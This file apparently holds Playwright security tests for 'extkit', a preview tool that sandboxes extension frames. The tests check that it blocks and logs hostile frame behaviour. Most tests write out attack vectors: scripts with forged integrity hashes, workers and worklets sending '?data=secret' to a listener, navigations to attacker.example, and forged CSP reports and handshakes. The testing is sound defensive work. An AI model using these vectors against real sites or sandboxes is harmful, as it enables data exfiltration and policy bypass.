    // Nested frames made with the DOM are refused; the ones parsers make are removed.
    const refusedFrames = [
      'iframe.src',
      'iframe-setAttribute',
      'iframe-srcdoc-refresh',
      'frame.src',
      'object-about-blank',
      'embed-about-blank',
      'iframe-createElementNS',
      'iframe-customized-built-in',
      'child-location',
    ];
    const removedFrames = [
      'iframe-in-markup',
      'iframe-insertAdjacentHTML',
      'iframe-DOMParser',
      'iframe-xhtml',
      'iframe-template',
      'frameset-DOMParser',
      'object-in-markup',
      'iframe-createDocument',
      'child-by-index',
      'window.open-name',
      'a-target',
      'form-target',
    ];
    const refused = [
      'document.write',
      'window.stop',
      'document.open',
      'document.write-reopen',
      'execCommand',
      'setHTMLUnsafe-declarative-shadow-root',
      ...refusedFrames,
    ];
    for (const [vector, result] of Object.entries(results)) {
      if (vector.endsWith('!') || vector === 'nested windows' || vector === 'undo-defineProperty') continue;
      expect(result, vector).toBe(refused.includes(vector) ? 'threw NotAllowedError' : 'ok');
    }
    for (const vector of [...refusedFrames, ...removedFrames, 'form-submit', 'form-requestSubmit'])
      expect(results, vector).toHaveProperty([vector]);
    expect(results['nested windows'], 'child windows in the frame').toBe('0');
    expect(results['undo-defineProperty']).toBe('threw TypeError');
    // Each link the lockdown cleaned is in the network log, with the host it named.
    for (const vector of [
      'create',
      'case-and-space',
      'relList.add',
      'Attr.value',
      'href-after-rel',
      'innerHTML',
      'closed-shadow-root',
      'DOMParser-adoptNode',
      'template',
      'table.tHead',
      'undo-delete',
      'undo-builtins',
      'select.add',
      'options.add-xml',
      'options-index-setter',
      'select-index-setter',
      'nested-template-option',
      'report-hijacked',
      'template-setHTMLUnsafe',
      'template-insertAdjacentHTML',
    ]) {
      expect(entries, vector).toContain(`link rel=dns-prefetch http://${vector.toLowerCase()}-${run}.example`);
    }
    expect(entries).toContain(`link rel=preconnect http://127.0.0.1:${(listener.address() as AddressInfo).port}`);
    for (const vector of [
      'iframe-in-markup',
      'iframe-insertAdjacentHTML',
      'iframe-DOMParser',
      'iframe-xhtml',
      'iframe-template',
      'frameset-DOMParser',
      'object-in-markup',
    ]) {
      expect(entries, vector).toContain(`nested frame http://${vector.toLowerCase()}-${run}.example`);
    }
    expect(entries).toContain(`nested frame http://127.0.0.1:${(listener.address() as AddressInfo).port}`);
    expect(entries).toContain('nested frame <iframe>, <frame>, <object> or <embed>');
    expect(entries).toContain('document.write markup with <link>, <script> or a nested frame');
    expect(entries).toContain('navigation window.stop()');
    expect(entries).toContain('navigation document.open() or a write that reopens the document');
    expect(entries).toContain('link rel=dns-prefetch http://early-hint.hostile-probe.example');
  });
});

describe('a frame that sends itself toward hosts, in an ordinary browser profile', () => {
  // The first navigation toward a host is the platform's to stop (docs/preview.md): Chromium resolves its name
  // before frame-src refuses it. What the preview holds is that it ends the extension's document, whatever the
  // extension does next to cancel it, so the second host is never reached.
  const run = `n${Date.now().toString(36)}`;
  // What the extension does right after sending its frame to the first host (the frame's CSP allows no eval: by name).
  const chains = ['then-204', 'then-stop', 'then-open', 'then-write', 'then-reload', 'then-self'];
  let profile: string;
  let netLog: string;
  const ended: Record<string, string> = {};
  const loop = { status: '', note: '', entries: [] as string[], reloaded: false };

  beforeAll(async () => {
    profile = mkdtempSync(join(tmpdir(), 'extkit-profile-'));
    netLog = join(profile, 'netlog.json');
    const context = await launchProfile(join(profile, 'user-data'), [`--log-net-log=${netLog}`]);
    try {
      const p = context.pages()[0] ?? (await context.newPage());
      for (const name of chains) {
        await p.goto(dev.url);
        const frame = await probeFrame(p);
        await frame.evaluate(
          ({ first, second, name }) => {
            location.href = first;
            try {
              if (name === 'then-204') location.href = '/favicon.ico';
              if (name === 'then-stop') window.stop();
              if (name === 'then-open') {
                document.open();
                document.close();
              }
              if (name === 'then-write') document.write('<p>x</p>');
              if (name === 'then-reload') location.reload();
              // eslint-disable-next-line no-self-assign -- a navigation to the same address, on purpose
              if (name === 'then-self') location.href = location.href;
            } catch {
              // refused: the first navigation goes on
            }
            setTimeout(() => (location.href = second), 300);
          },
          { first: `http://first-${name}-${run}.example/`, second: `http://second-${name}-${run}.example/`, name },
        );
        await new Promise((r) => setTimeout(r, 1200));
        const after = await (await p.$(PROBE))?.contentFrame();
        ended[name] =
          (await after
            ?.evaluate(() => `${location.protocol} ${document.body?.textContent ?? ''}`)
            .catch((e: Error) => `gone ${e.message}`)) ?? 'no frame';
      }
      // A new navigation toward a host in every task (a MessageChannel loop, no timer clamping): each replaces the
      // refused one before its error page commits, so the document lived on (measured: up to 3,000 names in 6 s).
      await p.goto(dev.url);
      const frame = await probeFrame(p);
      await frame.evaluate((run) => {
        let i = 0;
        const channel = new MessageChannel();
        channel.port1.onmessage = () => {
          location.href = `http://loop-${i++}-${Math.round(performance.now())}-${run}.example/`;
          if (i < 1000) channel.port2.postMessage(0);
        };
        channel.port2.postMessage(0);
      }, run);
      await new Promise((r) => setTimeout(r, 2500));
      const article = p.locator('#surface-component_acme_hostile-probe_probe');
      loop.status = (await article.locator('.status').textContent()) ?? '';
      loop.note = (await article.locator('.surface-error').textContent()) ?? '';
      await p.click('[data-tab="network"]');
      // The log is drawn on a later animation frame (at most a fifth of the time): wait for the draw, not for the entry's arrival.
      await p
        .locator('[data-panel="network"] li', { hasText: `${run}.example` })
        .first()
        .waitFor({ timeout: 5000 })
        .catch(() => undefined);
      loop.entries = await p.locator('[data-panel="network"] li').allInnerTexts();
      await article.locator('button', { hasText: 'Reload the frame' }).click();
      loop.reloaded = await article
        .locator('.status', { hasText: 'running' })
        .waitFor({ timeout: 8000 })
        .then(
          () => true,
          () => false,
        );
    } finally {
      await context.close(); // writes out the net log
    }
  });

  afterAll(() => {
    if (profile) rmSync(profile, { recursive: true, force: true });
  });

  it("ends the extension's document at its first navigation, so it never reaches a second host", () => {
    const log = readFileSync(netLog, 'utf8');
    expect(log).toContain('HOST_RESOLVER_MANAGER_REQUEST');
    const second = [...new Set(log.match(new RegExp(`second-[\\w-]+-${run}\\.example`, 'g')) ?? [])];
    expect(second, 'second hosts looked up').toEqual([]);
    for (const name of chains) expect(ended[name], name).not.toContain('probe mounted');
  });

  it("ends the extension's document at once when it starts a new navigation toward a host in every task, and says so", () => {
    const log = readFileSync(netLog, 'utf8');
    // Each name carries the frame's clock when it was set: how long the document ran on after its first exit.
    const times = [...new Set(log.match(new RegExp(`loop-\\d+-\\d+-${run}\\.example`, 'g')) ?? [])].map((n) =>
      Number(n.split('-')[2]),
    );
    expect(times.length, 'names looked up').toBeGreaterThan(0);
    expect(
      Math.max(...times) - Math.min(...times),
      `ms the document ran on after its exit (${times.length} names)`,
    ).toBeLessThan(500);
    expect(loop.status).toBe('stopped');
    expect(loop.note).toMatch(new RegExp(`navigated toward http://loop-\\d+-\\d+-${run}\\.example`));
    expect(loop.entries.some((e) => e.includes('navigation') && e.includes(`${run}.example`))).toBe(true);
    expect(loop.reloaded, 'the frame reloads on request').toBe(true);
  });
});

/**
 * Every way the tests know to give an external script, a module, a preload or a modulepreload an `integrity` that
 * names a hash the frame's policy allows (the bundle's own, hashed from its text as a hostile bundle would), each
 * pointed at `sink` with the vector in its path. Measured before the lockdown stripped integrity: each reached a local
 * listener, and the network log showed nothing.
 */
interface ListenerAttack {
  /** The listener's origin, which the attack aims at. */
  sink: string;
  /** What reached the listener (more may arrive while the tests run: they read the same array). */
  requests: string[];
  /** The attack's verdict per vector, as the frame saw it. */
  results: Record<string, string>;
  /** The preview's network log: each blocked entry as "<kind> <what was blocked>". */
  entries: string[];
  close(): void;
}

/**
 * Runs `attack` in the preview's frame against a local listener, then reads the preview's network log once the
 * entry `until(sink)` selects is in it: what the frame did, what reached the listener, what the developer sees.
 */
async function attackListener(
  attack: (sink: string) => Promise<Record<string, string>>,
  until: (sink: string) => string,
): Promise<ListenerAttack> {
  const requests: string[] = [];
  const listener = createServer((req, res) => {
    requests.push(req.url ?? '');
    res.end();
  });
  await new Promise<void>((r) => listener.listen(0, '127.0.0.1', r));
  const sink = `http://127.0.0.1:${(listener.address() as AddressInfo).port}`;
  const p = await browser.newPage({ viewport: { width: 1280, height: 800 } });
  await p.goto(dev.url);
  const results = await (await probeFrame(p)).evaluate(attack, sink);
  await p.click('[data-tab="network"]');
  await p.locator(until(sink)).first().waitFor({ timeout: 8000 });
  await new Promise((r) => setTimeout(r, 1000)); // time for a request to reach the listener, and the reports the log
  const entries = await p
    .locator('[data-panel="network"] li[data-blocked]')
    .evaluateAll((lis) =>
      lis.map((li) => `${li.querySelector('code')?.textContent} ${li.getAttribute('data-blocked')}`),
    );
  await p.close();
  return { sink, requests, results, entries, close: () => listener.close() };
}

async function attackIntegrity(sink: string): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  const scripts = Array.from(document.scripts);
  const digest = await crypto.subtle.digest('SHA-256', new TextEncoder().encode(scripts[scripts.length - 1]!.text));
  const hash = `sha256-${btoa(String.fromCharCode(...new Uint8Array(digest)))}`;
  const url = (v: string): string => `${sink}/${v}?data=secret`;
  const attempt = (name: string, run: () => void): void => {
    try {
      run();
      out[name] = 'ok';
    } catch (e) {
      out[name] = `threw ${(e as Error).name}`;
    }
  };
  const script = (props: Partial<HTMLScriptElement>): HTMLScriptElement =>
    Object.assign(document.createElement('script'), props);
  const link = (props: Partial<HTMLLinkElement>): HTMLLinkElement =>
    Object.assign(document.createElement('link'), props);
  attempt('script.integrity', () => document.body.append(script({ integrity: hash, src: url('script.integrity') })));
  attempt('module', () => document.body.append(script({ type: 'module', integrity: hash, src: url('module') })));
  attempt('preload', () =>
    document.head.append(link({ rel: 'preload', as: 'script', integrity: hash, href: url('preload') })),
  );
  attempt('modulepreload', () =>
    document.head.append(link({ rel: 'modulepreload', integrity: hash, href: url('modulepreload') })),
  );
  attempt('setAttribute', () => {
    const s = document.createElement('script');
    s.setAttribute('INTEGRITY', hash);
    s.setAttribute('src', url('setAttribute'));
    document.body.append(s);
  });
  attempt('setAttributeNS', () => {
    const s = document.createElement('script');
    s.setAttributeNS(null, 'integrity', hash);
    s.src = url('setAttributeNS');
    document.body.append(s);
  });
  attempt('Attr node', () => {
    const s = document.createElement('script');
    const a = document.createAttribute('integrity');
    a.value = hash;
    s.setAttributeNode(a);
    s.src = url('Attr-node');
    document.body.append(s);
  });
  attempt('Attr.value after', () => {
    const s = document.createElement('script');
    s.setAttribute('integrity', 'x');
    s.attributes.getNamedItem('integrity')!.value = hash;
    s.src = url('Attr-value');
    document.body.append(s);
  });
  attempt('connected, then src', () => {
    const s = document.body.appendChild(document.createElement('script'));
    s.integrity = hash;
    s.src = url('connected-then-src');
  });
  attempt('svg script', () => {
    const svg = document.body.appendChild(document.createElementNS('http://www.w3.org/2000/svg', 'svg'));
    const s = document.createElementNS('http://www.w3.org/2000/svg', 'script');
    s.setAttribute('integrity', hash);
    s.setAttribute('href', url('svg-script'));
    svg.append(s);
  });
  attempt('innerHTML modulepreload', () => {
    document.body.appendChild(document.createElement('div')).innerHTML =
      `<link rel=modulepreload integrity="${hash}" href="${url('innerHTML-modulepreload')}">`;
  });
  attempt('innerHTML svg script', () => {
    document.body.appendChild(document.createElement('div')).innerHTML =
      `<svg><script integrity="${hash}" href="${url('innerHTML-svg-script')}"></script></svg>`;
  });
  attempt('createContextualFragment', () =>
    document.body.append(
      document
        .createRange()
        .createContextualFragment(`<script src="${url('contextual-fragment')}" integrity="${hash}"></script>`),
    ),
  );
  attempt('DOMParser adoptNode', () => {
    const parsed = new DOMParser().parseFromString(
      `<link rel=preload as=script integrity="${hash}" href="${url('DOMParser')}">`,
      'text/html',
    );
    document.head.append(document.adoptNode(parsed.querySelector('link')!));
  });
  attempt('template', () => {
    const t = document.createElement('template');
    t.innerHTML = `<link rel=modulepreload integrity="${hash}" href="${url('template')}">`;
    document.head.append(t.content.cloneNode(true));
  });
  attempt('cloneNode', () => {
    const s = script({ integrity: hash });
    document.body.append(Object.assign(s.cloneNode() as HTMLScriptElement, { src: url('cloneNode') }));
  });
  attempt('document.write', () =>
    document.write(`<script src="${url('document-write')}" integrity="${hash}"></script>`),
  );
  return out;
}

describe('external scripts whose integrity names a hash the policy allows', () => {
  let attack: ListenerAttack;
  let requests: string[];
  let results: Record<string, string>;
  let entries: string[];
  let sink: string;

  beforeAll(async () => {
    attack = await attackListener(attackIntegrity, (sink) => `li[data-blocked^="${sink}"]`);
    ({ requests, results, entries, sink } = attack);
  });

  afterAll(() => attack?.close());

  it('are never requested: the lockdown strips the integrity, and the policy refuses the script', () => {
    expect(Object.keys(results).length).toBe(17);
    for (const [vector, result] of Object.entries(results))
      expect(result, vector).toBe(vector === 'document.write' ? 'threw NotAllowedError' : 'ok');
    expect(requests, 'requests that reached the listener').toEqual([]);
  });

  it('are in the network log: the integrity stripped, with the host, and the script the policy refused', () => {
    // A stripped integrity names the host its element named by then (the log counts repeats on one entry).
    expect(entries).toContain(`script integrity ${sink}`);
    expect(entries).toContain('script integrity <script integrity> or <link integrity>');
    for (const path of [
      'script.integrity',
      'module',
      'preload',
      'modulepreload',
      'setAttribute',
      'setAttributeNS',
      'Attr-node',
      'Attr-value',
      'connected-then-src',
      'svg-script',
      'innerHTML-modulepreload',
      'contextual-fragment',
      'DOMParser',
      'template',
      'cloneNode',
    ])
      expect(entries, path).toContain(`script-src-elem ${sink}/${path}?data=secret`);
    expect(entries).toContain('document.write markup with <link>, <script> or a nested frame');
  });
});

/** Every way to start a worker or a worklet module, each pointed at `sink` (blob: and data: carry it inside). */
async function attackWorkers(sink: string): Promise<Record<string, string>> {
  const out: Record<string, string> = {};
  const attempt = async (name: string, run: () => unknown): Promise<void> => {
    try {
      await run();
      out[name] = 'ok';
    } catch (e) {
      out[name] = `threw ${(e as Error).name}`;
    }
  };
  const fetchIn = (v: string): string => `fetch(${JSON.stringify(`${sink}/${v}?data=secret`)})`;
  await attempt('Worker', () => new Worker(`${sink}/worker?data=secret`));
  await attempt('module Worker', () => new Worker(`${sink}/module-worker?data=secret`, { type: 'module' }));
  await attempt('SharedWorker', () => new SharedWorker(`${sink}/shared-worker?data=secret`));
  await attempt('blob Worker', () => new Worker(URL.createObjectURL(new Blob([fetchIn('blob-worker')]))));
  await attempt('data Worker', () => new Worker(`data:text/javascript,${fetchIn('data-worker')}`));
  await attempt('paint worklet', () =>
    (CSS as unknown as { paintWorklet: Worklet }).paintWorklet.addModule(`${sink}/paint-worklet?data=secret`),
  );
  await attempt('audio worklet', () => new AudioContext().audioWorklet.addModule(`${sink}/audio-worklet?data=secret`));
  return out;
}

describe('workers and worklets', () => {
  let attack: ListenerAttack;
  let requests: string[];
  let results: Record<string, string>;
  let entries: string[];
  let sink: string;

  beforeAll(async () => {
    attack = await attackListener(attackWorkers, () => 'li[data-blocked$="audio-worklet?data=secret"]');
    ({ requests, results, entries, sink } = attack);
  });

  afterAll(() => attack?.close());

  it('are refused before the browser sees them, and nothing reaches a listener', () => {
    expect(results).toEqual({
      Worker: 'threw NotAllowedError',
      'module Worker': 'threw NotAllowedError',
      SharedWorker: 'threw NotAllowedError',
      'blob Worker': 'threw NotAllowedError',
      'data Worker': 'threw NotAllowedError',
      'paint worklet': 'threw NotAllowedError',
      'audio worklet': 'threw NotAllowedError',
    });
    expect(requests).toEqual([]);
  });

  it('are each in the network log once, with what they named', () => {
    // Chromium refused these in the frame's console only: a worker from a URL before any request, a worklet without a report.
    for (const path of ['worker', 'module-worker', 'shared-worker'])
      expect(entries).toContain(`worker ${sink}/${path}?data=secret`);
    for (const path of ['paint-worklet', 'audio-worklet'])
      expect(entries).toContain(`worklet ${sink}/${path}?data=secret`);
    expect(entries.filter((e) => e.startsWith('worker blob:'))).toHaveLength(1);
    expect(entries.filter((e) => e.startsWith('worker data:'))).toHaveLength(1);
    expect(entries.filter((e) => e.startsWith('worker-src'))).toEqual([]);
  });
});

describe('the network log, from another local origin', () => {
  let other: Server;
  beforeAll(async () => {
    other = createServer((_req, res) =>
      res.writeHead(200, { 'content-type': 'text/html' }).end('<!doctype html><title>other</title>'),
    );
    await new Promise<void>((r) => other.listen(0, '127.0.0.1', r));
  });
  afterAll(() => other?.close());

  it('refuses forged CSP reports, whatever a page on another origin sends', async () => {
    const p = await browser.newPage();
    await p.goto(`http://127.0.0.1:${(other.address() as AddressInfo).port}/`);
    const attempts = await p.evaluate(async (target) => {
      const forged = JSON.stringify({
        'csp-report': {
          'effective-directive': 'connect-src',
          'blocked-uri': 'https://forged.example',
          'document-uri': 'x',
        },
      });
      const paths = [
        '/__extkit/csp-report?surface=component%3Aacme.hostile-probe.probe',
        '/__extkit/csp-report/guess?surface=component%3Aacme.hostile-probe.probe',
      ];
      const out: string[] = [];
      for (const path of paths) {
        for (const type of ['text/plain', 'application/csp-report', 'application/json']) {
          out.push(
            await fetch(target + path, {
              method: 'POST',
              mode: 'no-cors',
              headers: { 'content-type': type },
              body: forged,
            }).then(
              () => 'sent',
              (e: Error) => e.name,
            ),
          );
          out.push(String(navigator.sendBeacon(target + path, new Blob([forged], { type }))));
        }
      }
      return out;
    }, dev.origin);
    expect(attempts.length).toBe(12);
    await page.waitForTimeout(500);
    expect(await page.locator('li[data-blocked="https://forged.example"]').count()).toBe(0);
    await p.close();
  });

  it('answers a report without the session secret 403, and one of the wrong type 415', async () => {
    const body = JSON.stringify({
      'csp-report': { 'effective-directive': 'connect-src', 'blocked-uri': 'https://attacker.example' },
    });
    const headers = { 'content-type': 'application/csp-report' };
    expect((await raw(`${dev.origin}/__extkit/csp-report?surface=x`, { method: 'POST', headers, body })).status).toBe(
      403,
    );
    const frameDoc = await raw(
      `${dev.origin}/__extkit/frame/${encodeURIComponent('component:acme.hostile-probe.probe')}`,
    );
    const reportUri = /report-uri (\S+)/.exec(String(frameDoc.headers['content-security-policy']))![1]!;
    expect(reportUri).toMatch(/\/__extkit\/csp-report\/[A-Za-z0-9_-]{32}\?surface=/);
    expect((await raw(reportUri, { method: 'POST', headers: { 'content-type': 'text/plain' }, body })).status).toBe(
      415,
    );
    expect((await raw(reportUri.replace(/surface=.*/, 'surface=nope'), { method: 'POST', headers, body })).status).toBe(
      400,
    );
    expect((await raw(reportUri, { method: 'POST', headers, body: 'not json' })).status).toBe(400);
    expect((await raw(reportUri, { method: 'POST', headers, body })).status).toBe(204);
  });
});

describe('the server', () => {
  it('answers a malformed URL 400 with no internals, and no response carries a stack', async () => {
    for (const path of ['/__extkit/frame/%E0%A4%A', '/%', '/__extkit/frame/a%00b']) {
      const res = await raw(dev.origin + path);
      expect(res.status, path).toBe(400);
      expect(res.body, path).toBe('Malformed URL.\n');
    }
    for (const path of ['/', '/__extkit/state', '/nope', '/__extkit/frame/x']) {
      const res = await raw(dev.origin + path);
      expect(res.body, path).not.toMatch(/\n\s+at |\/work\/|node:internal|\.ts:\d+/);
    }
  });

  it('answers a navigation the frame started itself with a page that commits and runs nothing', async () => {
    const frame = `/__extkit/frame/${encodeURIComponent('component:acme.hostile-probe.probe')}?load=${'A'.repeat(32)}`;
    const navigation = (site: string): Record<string, string> => ({
      'sec-fetch-dest': 'iframe',
      'sec-fetch-mode': 'navigate',
      'sec-fetch-site': site,
    });
    for (const path of [frame, '/favicon.ico', '/', '/__extkit/events', '/nope']) {
      for (const site of ['cross-site', 'same-site', 'none']) {
        const res = await raw(dev.origin + path, { headers: navigation(site) });
        expect(res.status, `${path} ${site}`).toBe(200);
        expect(res.body, path).toContain('navigated its frame away');
        expect(res.headers['content-security-policy'], path).toMatch(/^default-src 'none'/);
      }
    }
    // The host page's own loads are same-origin: they get the extension.
    const own = await raw(dev.origin + frame, { headers: navigation('same-origin') });
    expect(own.status).toBe(200);
    expect(own.body).not.toContain('navigated its frame away');
    expect(own.headers['content-security-policy']).toContain('script-src');
    // Once: a step in the frame's history asks for the same URL as the host page did (same-origin), and gets the stopped page.
    for (const again of [frame, frame.replace(/\?load=.*/, '')]) {
      const res = await raw(dev.origin + again, { headers: navigation('same-origin') });
      expect(res.body, again).toContain('navigated its frame away');
    }
  });

  it('serves a frame document only into a frame: opened in a tab of its own, the extension does not run', async () => {
    const src = await page.$eval(PROBE, (f) => (f as HTMLIFrameElement).src);
    // Chromium's "Open frame in new tab": outside the host page, no frame-src holds the extension's navigations.
    const tab = await browser.newPage();
    const res = await tab.goto(src);
    expect(res?.status()).toBe(403);
    expect(await tab.textContent('body')).toContain('one frame of the extkit preview');
    expect(await tab.evaluate(() => 'caught' in window || document.scripts.length > 0)).toBe(false);
    await tab.close();
    for (const dest of ['document', 'object', 'embed']) {
      const doc = await raw(
        `${dev.origin}/__extkit/frame/${encodeURIComponent('component:acme.hostile-probe.probe')}?load=${'B'.repeat(32)}`,
        {
          headers: { 'sec-fetch-dest': dest, 'sec-fetch-mode': 'navigate', 'sec-fetch-site': 'none' },
        },
      );
      expect(doc.status, dest).toBe(403);
      expect(doc.body, dest).not.toContain('<script');
      expect(doc.headers['content-security-policy'], dest).toMatch(/^default-src 'none'/);
    }
  });

  it('sends Cross-Origin-Opener-Policy: same-origin beside its other headers', async () => {
    for (const path of ['/', '/__extkit/host.js', '/__extkit/state', '/nope']) {
      const res = await raw(dev.origin + path);
      expect(res.headers['cross-origin-opener-policy'], path).toBe('same-origin');
      expect(res.headers['x-content-type-options'], path).toBe('nosniff');
    }
    expect((await raw(dev.url)).headers['content-security-policy']).toContain("frame-ancestors 'none'");
  });

  it('leaves an opener no handle on the preview', async () => {
    const p = await browser.newPage();
    await p.goto('about:blank');
    const opened = p.context().waitForEvent('page');
    await p.evaluate(
      (url) => void ((window as unknown as { opened: Window | null }).opened = window.open(url)),
      dev.url,
    );
    // The preview did load in the new window, and sees no opener there.
    const preview = await opened;
    await preview.waitForURL(dev.url);
    await preview.waitForSelector('.stage');
    expect(await preview.evaluate(() => window.opener)).toBeNull();
    // COOP put it in a browsing context group of its own: the opener's handle closes.
    await p.waitForFunction(
      () => (window as unknown as { opened: Window | null }).opened?.closed !== false,
      undefined,
      { timeout: 10_000 },
    );
    await preview.close();
    await p.close();
  });
});

describe('the bridge, from inside the frame', () => {
  it('keeps its port from the extension, ignores a connect the extension forges, and still carries props', async () => {
    const frame = await probeFrame();
    // The fixture listened for the handshake and replaced MessagePort's and MessageEvent's members before it arrived.
    expect(await frame.evaluate(() => (window as unknown as { caught: string[] }).caught)).toEqual([]);
    const forged = await frame.evaluate(
      () =>
        new Promise<string>((resolve) => {
          const channel = new MessageChannel();
          channel.port1.onmessage = (e) => resolve(`answered ${JSON.stringify(e.data)}`);
          dispatchEvent(
            new MessageEvent('message', {
              source: parent,
              data: { extkit: 'connect', protocol: 1 },
              ports: [channel.port2],
            }),
          );
          // A connect the transport accepts is answered with `ready` at once.
          setTimeout(() => resolve('ignored'), 1000);
        }),
    );
    expect(forged).toBe('ignored');
    // The forged connect sprang the fixture's traps itself (its own port, its own event): start afresh.
    await frame.evaluate(() => void ((window as unknown as { caught: string[] }).caught.length = 0));
    await page.click('[data-tab="props"]');
    await page.fill('[data-prop="flood"]', '1');
    await page.click('[data-tab="events"]');
    await page.locator('li[data-event="tick"]').first().waitFor({ timeout: 8000 });
    await page.click('[data-tab="props"]');
    await page.fill('[data-prop="flood"]', '');
    // Props crossed the port: nothing the fixture replaced was called with it.
    expect(await frame.evaluate(() => (window as unknown as { caught: string[] }).caught)).toEqual([]);
  });

  it('writes to the network log only what the lockdown reports, over the port: a report the extension posts is ignored', async () => {
    const frame = await probeFrame();
    await frame.evaluate(() => {
      parent.postMessage(
        { extkit: 'sandbox', protocol: 1, api: 'dns-prefetch', targets: ['http://forged-attempt.example'] },
        '*',
      );
      const link = document.createElement('link');
      link.rel = 'dns-prefetch';
      link.href = '//real-attempt.example';
      document.head.append(link);
    });
    await page.click('[data-tab="network"]');
    await page.locator('li[data-blocked="http://real-attempt.example"]').waitFor({ timeout: 8000 });
    await page.waitForTimeout(500);
    expect(await page.locator('li[data-blocked="http://forged-attempt.example"]').count()).toBe(0);
  });
});

describe('a frame that navigates itself', () => {
  it('shows as stopped, says why, and reloads on request', async () => {
    await page.click('[data-tab="props"]');
    await page.fill('[data-prop="navigate"]', 'https://attacker.example/next');
    const article = page.locator('#surface-component_acme_hostile-probe_probe');
    await article.locator('.status', { hasText: 'stopped' }).waitFor({ timeout: 8000 });
    // Toward a host: the host page's frame-src refused it, and the preview ended the frame at once, naming the host.
    expect(await article.locator('.surface-error').textContent()).toContain(
      'navigated toward https://attacker.example',
    );
    await page.fill('[data-prop="navigate"]', '');
    await article.locator('button', { hasText: 'Reload the frame' }).click();
    await article.locator('.status', { hasText: 'running' }).waitFor({ timeout: 8000 });
    expect(await article.locator('.surface-error').isHidden()).toBe(true);
  });

  it('stays stopped whatever hellos the frame posts, from its own document or from the one it navigated to', async () => {
    const article = page.locator('#surface-component_acme_hostile-probe_probe');
    const hellos = (): void => {
      const load = new URLSearchParams(location.search).get('load');
      for (const forged of [{}, { load }, { load: 'A'.repeat(43) }])
        parent.postMessage({ extkit: 'hello', protocol: 1, ...forged }, '*');
    };
    // Extra hellos first, then a reload of its own URL: the new document is the preview's
    // own, with the same load named in its URL, so its transport's hello replays a used proof.
    const probe = await probeFrame();
    await probe.evaluate(hellos);
    // eslint-disable-next-line no-self-assign -- a navigation to the same address, on purpose
    await probe.evaluate(() => void setTimeout(() => (location.href = location.href), 50));
    const spam = async (): Promise<void> => {
      for (let i = 0; i < 20; i++) {
        const frame = await (await page.$(PROBE))?.contentFrame();
        await frame?.evaluate(hellos).catch(() => undefined);
        await new Promise((r) => setTimeout(r, 75));
      }
    };
    await spam();
    await article.locator('.status', { hasText: 'stopped' }).waitFor({ timeout: 8000 });
    await spam();
    expect(await article.locator('.status').textContent()).toBe('stopped');
    await article.locator('button', { hasText: 'Reload the frame' }).click();
    await article.locator('.status', { hasText: 'running' }).waitFor({ timeout: 8000 });
  });
});

describe('Try a prop', () => {
  it('takes constructor and __proto__ like any other name', async () => {
    await page.click('[data-tab="props"]');
    for (const name of ['constructor', '__proto__', 'toString']) {
      await page.fill('input[aria-label="undeclared prop name"]', name);
      await page.click('text=Try a prop');
      await page.locator(`[data-prop="${name}"]`).fill('x');
    }
    expect(await page.locator('.field.dropped').count()).toBe(3);
  });
});

describe('a runaway emit loop', () => {
  it('is flagged on its surface, kept to the newest 5,000, and the page stays usable: filter, clear', async () => {
    // 900 a second for 7 seconds: within the bridge's budget (1,000 a second; over it, see preview-budget.test.ts).
    await page.click('[data-tab="props"]');
    await page.fill('[data-prop="floodSeconds"]', '7');
    await page.fill('[data-prop="flood"]', '900');
    const article = page.locator('#surface-component_acme_hostile-probe_probe');
    await article.locator('.runaway').waitFor({ state: 'visible', timeout: 8000 });
    expect(await article.locator('.runaway').textContent()).toMatch(/^runaway: [\d,]+ events\/s$/);
    await page.click('[data-tab="events"]');
    const summary = page.locator('[data-panel="events"] .log-summary');
    await summary.filter({ hasText: /older dropped/ }).waitFor({ timeout: 15_000 });
    await page.waitForTimeout(1500);
    expect(await summary.textContent()).toMatch(
      /^5,000 events · newest 200 shown · (\d+ repeats? coalesced \(×n\) · )?[\d,]+ older dropped \(the log keeps 5,000\)$/,
    );
    expect(await page.locator('[data-panel="events"] ol.log li').count()).toBe(200);
    await page.fill('[data-panel="events"] input[type="search"]', '"n":6299}');
    await summary.filter({ hasText: /^1 of 5,000 events( · |$)/ }).waitFor({ timeout: 3000 });
    expect(await page.locator('[data-panel="events"] ol.log li').count()).toBe(1);
    await page.click('[data-panel="events"] button.clear');
    await summary.filter({ hasText: /^No events yet/ }).waitFor({ timeout: 3000 });
    expect(await page.locator('[data-tab="events"] .count').count()).toBe(0);
    await page.fill('[data-panel="events"] input[type="search"]', '');
    await page.click('[data-tab="props"]');
    await page.fill('[data-prop="flood"]', '');
    await page.fill('[data-prop="floodSeconds"]', '');
    await article.locator('.runaway').waitFor({ state: 'hidden', timeout: 5000 });
  });
});
